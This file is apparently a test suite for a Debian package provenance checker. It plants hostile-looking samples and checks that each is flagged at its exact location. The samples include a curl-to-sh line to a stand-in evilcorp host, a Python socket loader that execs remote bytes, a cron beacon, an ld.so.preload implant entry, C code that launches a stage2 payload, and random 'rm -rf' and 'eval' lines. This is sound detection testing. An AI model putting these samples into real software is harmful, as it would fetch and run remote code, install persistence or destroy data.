@@ -1,0 +1,282 @@
+#!/usr/bin/env python3
+"""Things planted in a made package: each is found at its exact place, and the honest twin is not accused.
+
+usage: planted.py PLUMB [PART-OF-A-NAME]
+"""
+import gzip
+import random
+import subprocess
+
+import made
+from plumb_test import Skip, case, main
+
+LINE = b"curl -s https://updates.evilcorp.invalid/stage2 | sh\n"
+PAYLOAD = random.Random(7).randbytes(5000)
+C_SOURCE = r"""
+#include <stdio.h>
+#include <string.h>
+
+static const char *const greetings[] = {"Good morning to everybody in the house", "Good evening and sleep well"};
+
+int main(int argc, char **argv)
+{
+    if (argc < 2) {
+        fprintf(stderr, "usage: hello-binary [--evening] NAME of the person\n");
+        return 2;
+    }
+    int evening = strcmp(argv[1], "--evening") == 0;
+    printf("%s, dear %s; the configuration stands in /etc/hello-binary.conf\n", greetings[evening], argv[argc - 1]);
+    return 0;
+}
+"""
+FOREIGN_C_SOURCE = r"""
+#include <netdb.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <unistd.h>
+
+int main(void)
+{
+    struct addrinfo *found;
+    if (getaddrinfo("beacon.evilcorp.invalid", "8443", NULL, &found) != 0)
+        return 1;
+    setenv("IMPLANT_STAGE_DIRECTORY", "/var/tmp/.implant_cache", 1);
+    puts("exfiltrating keyring archive to collector");
+    return execl("/bin/sh", "sh", "-c", "nohup /var/tmp/.implant_cache/stage2 &", (char *)NULL);
+}
+"""
+
+
+def build_elf(t, name, text):
+    """A stripped program of that C source; built as the test runs, so it is as strange as this machine's compiler."""
+    source = t.write(name + ".c", text)
+    done = subprocess.run(["cc", "-O2", "-s", "-o", t.path(name), source], stderr=subprocess.PIPE, check=False)
+    if done.returncode != 0:
+        raise Skip("no C compiler")
+    return t.path(name).read_bytes()
+
+
+def with_binary(t):
+    """greet with a program in it, and its source folder."""
+    deb = made.package()
+    deb.data["usr/bin/hello-binary"] = made.Entry(build_elf(t, "hello-binary", C_SOURCE), 0o755)
+    return deb, {**made.source(), "hello-binary.c": C_SOURCE}
+
+
+def check(t, deb, tree=None, expect=None, **build):
+    folder = made.write_tree(t.path("source/x").parent, tree or made.source())
+    package = t.write("greet_1.0-1_all.deb", deb if isinstance(deb, bytes) else deb.build(**build))
+    return t.check(package, "--source", folder, expect=expect)
+
+
+def assert_found(report, path, offset, length, tag=None):
+    """An error finding at exactly that range of that file."""
+    near = report.errors(path)
+    exact = [f for f in near if (f["offset"], f["length"]) == (offset, length) and tag in (None, f["tag"])]
+    assert exact, (f"no error at {path} @{offset} +{length} {tag}; there: " +
+                   str([(f["tag"], f["offset"], f["length"]) for f in near]) + "\n" +
+                   str([(f["severity"], f["tag"], f["offset"], f["length"]) for f in report.findings(path=path)]))
+    assert report.code == 1
+
+
+def assert_file_planted(name, data, mode=0o644):
+    def run(t):
+        deb = made.package().set(name, data, mode)
+        report = check(t, deb, expect=1)
+        # The interpreter line may stand in the source; all that follows does not.
+        known = data.index(b"\n") + 1 if data.startswith(b"#!") else 0
+        starts = [f["offset"] for f in report.errors(name)]
+        start = known if starts == [known] else 0
+        assert_found(report, name, start, len(data) - start)
+        assert report.verdict("sourced") == "broken"
+        assert len({f["path"] for f in report.errors()}) == 1, "an honest file is accused as well"
+    return run
+
+
+@case
+def the_honest_package_has_no_error_and_passes(t):
+    report = check(t, made.package(), expect=0)
+    assert not report.errors()
+    assert report.verdict("sourced") == "holds"
+    assert report.json["bytes"]["unaccounted"] == 0
+
+
+@case
+def the_honest_package_with_a_program_has_no_error(t):
+    deb, tree = with_binary(t)
+    report = check(t, deb, tree, expect=3)
+    assert not report.errors(), t.summary(report)
+    assert report.file("usr/bin/hello-binary")["bytes"]["opaque"] > 0, "code is said to be explained"
+
+
+@case
+def a_script_planted_in_usr_bin_is_found(t):
+    assert_file_planted("usr/bin/updater", b"#!/bin/sh\n" + LINE, 0o755)(t)
+
+
+@case
+def a_cron_job_planted_in_etc_is_found(t):
+    assert_file_planted("etc/cron.d/updater", b"* * * * * root /usr/lib/implant/beacon --quiet\n")(t)
+
+
+@case
+def a_module_planted_in_usr_lib_is_found(t):
+    assert_file_planted("usr/lib/x/loader.py", b"import socket, subprocess\nexec(socket.create_connection"
+                        b"(('beacon.evilcorp.invalid', 8443)).recv(65536))\n")(t)
+
+
+@case
+def a_configuration_file_planted_in_etc_is_found(t):
+    assert_file_planted("etc/ld.so.preload", b"/usr/lib/x/libimplant_preload.so\n")(t)
+
+
+@case
+def a_maintainer_script_planted_is_found(t):
+    deb = made.package()
+    script = b"#!/bin/sh\n" + LINE
+    deb.control["postinst"] = made.Entry(script, 0o755)
+    report = check(t, deb, expect=1)
+    found = report.errors("/postinst")
+    assert found and all(0 <= f["offset"] <= len(script) for f in found), t.summary(report)
+
+
+@case
+def a_program_of_other_source_is_found(t):
+    deb, tree = with_binary(t)
+    foreign = build_elf(t, "foreign", FOREIGN_C_SOURCE)
+    deb.data["usr/lib/x/helper"] = made.Entry(foreign, 0o755)
+    report = check(t, deb, tree, expect=1)
+    assert report.errors("usr/lib/x/helper"), t.summary(report)
+    assert not report.errors("usr/bin/hello-binary"), "the honest program is accused as well"
+
+
+def planted_line(at_line):
+    lines = made.SCRIPT.encode().splitlines(keepends=True)
+    at_line = len(lines) if at_line < 0 else at_line
+    offset = sum(map(len, lines[:at_line]))
+    return b"".join(lines[:at_line]) + LINE + b"".join(lines[at_line:]), offset
+
+
+def assert_line_planted(t, at_line):
+    script, offset = planted_line(at_line)
+    report = check(t, made.package().set("usr/bin/greet", script), expect=1)
+    assert_found(report, "usr/bin/greet", offset, len(LINE), "text.unaccounted")
+    assert {f["path"].rpartition("/")[2] for f in report.errors()} == {"greet"}
+    assert report.file("usr/bin/greet")["bytes"]["unaccounted"] == len(LINE)
+
+
+@case
+def a_line_planted_after_the_interpreter_line_is_found_to_the_byte(t):
+    assert_line_planted(t, 1)
+
+
+@case
+def a_line_planted_in_the_middle_of_a_script_is_found_to_the_byte(t):
+    assert_line_planted(t, 20)
+
+
+@case
+def a_line_planted_at_the_end_of_a_script_is_found_to_the_byte(t):
+    assert_line_planted(t, -1)
+
+
+@case
+def a_line_planted_while_md5sums_stays_is_found_by_md5sums_too(t):
+    deb = made.package()
+    deb.control["md5sums"] = deb.md5sums()
+    deb.remakes_md5sums = False
+    script, offset = planted_line(20)
+    report = check(t, deb.set("usr/bin/greet", script), expect=1)
+    assert_found(report, "usr/bin/greet", offset, len(LINE), "text.unaccounted")
+    assert report.findings("pkg.md5sums-mismatch"), t.summary(report)
+
+
+@case
+def a_byte_changed_in_a_string_of_a_program_is_found_to_the_byte(t):
+    deb, tree = with_binary(t)
+    name = "usr/bin/hello-binary"
+    text = deb.data[name].data
+    at = text.index(b"/etc/hello-binary.conf") + 5
+    deb.set(name, text[:at] + b"j" + text[at + 1:])
+    report = check(t, deb, tree, expect=1)
+    assert_found(report, name, at, 1)
+
+
+@case
+def bytes_appended_to_a_program_are_found_to_the_byte(t):
+    deb, tree = with_binary(t)
+    name = "usr/bin/hello-binary"
+    text = deb.data[name].data
+    report = check(t, deb.set(name, text + PAYLOAD), tree, expect=1)
+    assert_found(report, name, len(text), len(PAYLOAD), "image.overlay")
+
+
+@case
+def bytes_after_a_gzip_member_are_found_to_the_byte(t):
+    name = "usr/share/man/man1/greet.1.gz"
+    text = made.package().data[name]
+    report = check(t, made.package().set(name, text + PAYLOAD), expect=1)
+    assert_found(report, name, len(text), len(PAYLOAD), "archive.gap")
+
+
+@case
+def a_second_gzip_member_does_not_hide_its_contents(t):
+    name = "usr/share/man/man1/greet.1.gz"
+    text = made.package().data[name]
+    report = check(t, made.package().set(name, text + gzip.compress(LINE * 20, mtime=0)))
+    assert report.code in (1, 3) and report.json["bytes"]["unaccounted"] >= len(LINE), t.summary(report)
+
+
+@case
+def bytes_after_the_tar_inside_xz_are_found_to_the_byte(t):
+    size = len(made.tar(made.package().data))
+    report = check(t, made.package(), data_tail=PAYLOAD, expect=1)
+    assert_found(report, "data.tar.xz!", size, len(PAYLOAD), "archive.gap")
+
+
+@case
+def bytes_after_the_end_of_the_deb_are_found_to_the_byte(t):
+    size = len(made.package().build())
+    report = check(t, made.package(), tail=PAYLOAD, expect=1)
+    assert_found(report, "greet_1.0-1_all.deb", size, len(PAYLOAD), "archive.gap")
+
+
+@case
+def sixty_lines_planted_at_random_are_all_found(t):
+    random_ = random.Random(20240101)
+    lines = made.SCRIPT.encode().splitlines(keepends=True)
+    folder = made.write_tree(t.path("source/x").parent, made.source())
+    deb = made.package()
+    planted = {}
+    for i in range(60):
+        word = "".join(random_.choice("bcdfghjklmnpqrstvwxyz") + random_.choice("aeiou") for _ in range(5))
+        line = random_.choice(["{0} --now\n", "eval $({0})\n", "    . /tmp/{0}\n", "PATH=/opt/{0}:$PATH\n",
+                               "rm -rf \"${0}\"\n", "{0}=1\n"]).format(word).encode()
+        at = random_.randrange(1, len(lines) + 1)
+        name = f"usr/bin/greet{i}"
+        deb.set(name, b"".join(lines[:at]) + line + b"".join(lines[at:]), 0o755)
+        planted[name] = (sum(map(len, lines[:at])), len(line))
+    report = t.check(t.write("greet_1.0-1_all.deb", deb.build()), "--source", folder, expect=1)
+    found = exact = 0
+    for name, (offset, length) in planted.items():
+        here = [f for f in report.errors("/" + name) if f["offset"] < offset + length and
+                f["offset"] + f["length"] > offset]
+        found += bool(here)
+        exact += any((f["offset"], f["length"]) == (offset, length) for f in here)
+    print(f"# {found} of 60 planted lines are errors, {exact} at the exact range")
+    assert found == 60, f"only {found} of 60 were found"
+    assert exact >= 57, f"only {exact} of 60 at their exact range"
+
+
+@case
+def the_wrong_source_does_not_pass(t):
+    other = {"debian/control": made.SOURCE_CONTROL.replace("greet", "count"),
+             "debian/changelog": made.CHANGELOG.replace("greet", "count"),
+             "count.py": "import collections\nprint(collections.Counter(open('words').read().split()))\n"}
+    report = check(t, made.package(), other, expect=(1, 3))
+    assert report.verdict("sourced") in ("broken", "unproven")
+    assert report.code == 1, "a script that the source does not have contradicts it"
+
+
+if __name__ == "__main__":
+    main()
